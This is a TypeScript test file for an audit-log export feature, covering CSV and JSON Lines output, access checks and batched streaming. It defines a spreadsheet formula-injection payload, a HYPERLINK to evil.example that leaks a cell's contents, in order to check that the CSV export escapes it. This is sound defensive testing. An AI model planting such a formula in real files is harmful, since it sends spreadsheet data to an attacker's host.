import { parse } from "csv-parse/sync";
import { and, eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { getDb } from "@/lib/db/client";
import { auditEvents } from "@/lib/db/schema";
import {
  countingSelects,
  insertAuditEvents,
  insertBulkAuditEvents,
} from "@/lib/testing/audit-log-test-support";
import { signedInClaims } from "@/lib/testing/console-session-test-support";
import { createTestOrganization } from "@/lib/testing/factories";
import { AUDIT_EXPORT_COLUMNS } from "./audit-export-record";
import { auditExportStream } from "./audit-export-stream";
import { exportAuditLog } from "./export-audit-log";

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

async function setUp() {
  const tenant = await createTestOrganization();
  const other = await createTestOrganization();
  const events = await insertAuditEvents(tenant.organization.id, [
    {
      actorType: "client",
      actorLabel: FORMULA,
      action: "api_client.authentication_refused",
      targetType: "api_client",
      targetId: "lkc_formula",
      ip: "198.51.100.20",
      userAgent: "curl/8.5.0",
      outcome: "denied",
      reason: "wrong_secret",
      details: { endpoint: "token", method: "client_secret_basic" },
      createdAt: new Date("2026-04-02T10:00:00.000Z"),
    },
    {
      actorId: tenant.admin.id,
      actorLabel: tenant.admin.email,
      action: "api_client.updated",
      targetType: "api_client",
      targetId: "lkc_export",
      ip: "192.0.2.5",
      details: { name: 'Export, "quoted"\nand two lines', changes: { name: { from: "+1 old", to: "@new" } } },
      createdAt: new Date("2026-04-01T10:00:00.000Z"),
    },
  ]);
  await insertAuditEvents(other.organization.id, [{ actorLabel: "other-org@example.test" }]);
  await insertAuditEvents(null, [{ actorLabel: "no-org@example.test", actorType: "anonymous" }]);
  return { tenant, events };
}

function exportRequest(query: string, headers: Record<string, string> = { "sec-fetch-site": "same-origin" }) {
  return new Request(`http://localhost/admin/audit-log/export?${query}`, { headers });
}

async function exportedEvents(organizationId: string) {
  const db = await getDb();
  return db
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.organizationId, organizationId), eq(auditEvents.action, "audit.exported")));
}

describe("audit log export", () => {
  it("writes CSV with a header and every field, that a CSV parser reads back, formulas escaped", async () => {
    const { tenant, events } = await setUp();
    const response = await exportAuditLog(
      exportRequest("format=csv&targetType=api_client"),
      await signedInClaims(tenant.admin),
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="audit-log-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\dZ\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const text = await response.text();
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
    const records = rows.map((row) =>
      Object.fromEntries(header?.map((name, index) => [name, row[index]]) ?? []),
    );
    expect(records.map((record) => record.id)).toEqual(events.map((event) => event.id));

    const [refused, updated] = records;
    expect(refused).toEqual({
      id: events[0]?.id,
      created_at: "2026-04-02T10:00:00.000Z",
      action: "api_client.authentication_refused",
      action_label: "Client authentication refused",
      category: "security",
      actor_type: "client",
      actor_id: "",
      // A spreadsheet shows the text; it does not run it.
      actor_label: `'${FORMULA}`,
      target_type: "api_client",
      target_id: "lkc_formula",
      outcome: "denied",
      reason: "wrong_secret",
      reason_label: "Wrong secret",
      ip: "198.51.100.20",
      user_agent: "curl/8.5.0",
      details: expect.any(String),
    });
    expect(JSON.parse(refused?.details ?? "")).toEqual(events[0]?.details);
    expect(updated).toMatchObject({ actor_id: tenant.admin.id, actor_label: tenant.admin.email, reason: "" });
    expect(JSON.parse(updated?.details ?? "")).toEqual(events[1]?.details);
    expect(text).not.toContain("other-org@example.test");
    expect(text).not.toContain("no-org@example.test");
  });

  it("writes JSON Lines, one event per line, with the page's filters and order", async () => {
    const { tenant, events } = await setUp();
    const response = await exportAuditLog(
      exportRequest("format=jsonl&dir=asc&q=lkc_"),
      await signedInClaims(tenant.admin),
    );
    expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    const text = await response.text();
    expect(text.endsWith("\n")).toBe(true);
    const lines = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines.map((line) => line.id)).toEqual([events[1]?.id, events[0]?.id]);
    expect(lines[1]).toMatchObject({
      actor_label: FORMULA,
      details: events[0]?.details,
      reason_label: "Wrong secret",
    });
    expect(Object.keys(lines[0])).toEqual([...AUDIT_EXPORT_COLUMNS]);

    const filtered = await exportAuditLog(
      exportRequest("format=jsonl&outcome=denied"),
      await signedInClaims(tenant.admin),
    );
    expect(
      (await filtered.text())
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual([events[0]?.id]);
  });

  it("audits the export itself: who, which format, which filters", async () => {
    const { tenant } = await setUp();
    const claims = await signedInClaims(tenant.admin, "192.0.2.44");
    await (
      await exportAuditLog(exportRequest("format=csv&outcome=denied&q=refused&pageSize=25"), claims)
    ).text();
    const [exported] = await exportedEvents(tenant.organization.id);
    expect(exported).toMatchObject({
      actorType: "user",
      actorId: tenant.admin.id,
      actorLabel: tenant.admin.email,
      ip: "192.0.2.44",
      outcome: "success",
      details: { format: "csv", order: "desc", filters: { outcome: "denied", q: "refused" } },
    });
  });

  it("is refused without a session, to a member who is not a console administrator, and from another site", async () => {
    const { tenant } = await setUp();
    const cases: Array<[Request, Parameters<typeof exportAuditLog>[1], number]> = [
      [exportRequest("format=csv"), null, 401],
      [exportRequest("format=csv"), await signedInClaims(tenant.member), 403],
      [
        exportRequest("format=csv", { "sec-fetch-site": "cross-site" }),
        await signedInClaims(tenant.admin),
        403,
      ],
      [
        exportRequest("format=csv", { "sec-fetch-site": "same-site" }),
        await signedInClaims(tenant.admin),
        403,
      ],
      [exportRequest("format=xlsx"), await signedInClaims(tenant.admin), 400],
    ];
    for (const [request, claims, status] of cases) {
      const response = await exportAuditLog(request, claims);
      expect(response.status, request.url).toBe(status);
      expect(await response.text()).not.toContain("lkc_formula");
    }
    expect(await exportedEvents(tenant.organization.id)).toEqual([]);
    // Typed into the address bar (Sec-Fetch-Site: none) or from a client that sends none, it works.
    for (const headers of [{ "sec-fetch-site": "none" }, {}] as Record<string, string>[]) {
      const response = await exportAuditLog(
        exportRequest("format=csv", headers),
        await signedInClaims(tenant.admin),
      );
      expect(response.status).toBe(200);
      await response.text();
    }
  });

  it("streams: 25,000 events are read in batches as the download is read, never in one query", async () => {
    const tenant = await createTestOrganization();
    await insertBulkAuditEvents(tenant.organization.id, 25_000);
    const { executor, selects } = countingSelects(await getDb());
    const stream = auditExportStream(
      executor,
      tenant.organization.id,
      {},
      { format: "jsonl", order: "desc" },
    );
    const reader = stream.getReader();
    const decoder = new TextDecoder();
    const first = await reader.read();
    // One batch in hand, at most the next one being read ahead.
    expect(selects()).toBeLessThanOrEqual(2);
    let text = decoder.decode(first.value);
    expect(text.split("\n").filter(Boolean)).toHaveLength(1_000);
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      text += decoder.decode(value);
    }
    const ids = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line).target_id as string);
    expect(ids).toHaveLength(25_000);
    expect(new Set(ids).size).toBe(25_000);
    expect(ids[0]).toBe("bulk-1");
    expect(ids.at(-1)).toBe("bulk-25000");
    // 25 full batches, then one that finds nothing more.
    expect(selects()).toBe(26);
  }, 180_000);
});
